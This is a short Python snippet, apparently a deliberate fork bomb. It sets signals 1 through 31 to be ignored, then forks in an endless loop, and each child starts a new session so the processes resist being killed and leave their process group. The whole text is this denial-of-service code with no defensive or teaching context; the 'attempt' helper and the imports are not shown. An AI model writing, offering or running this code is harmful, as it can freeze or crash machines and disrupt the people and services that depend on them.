"""Processes that double, each in a session of its own, deaf to signals."""

for number in range(1, 32):
    attempt(signal.signal, number, signal.SIG_IGN)
while True:
    if attempt(os.fork) == 0:
        os.setsid()
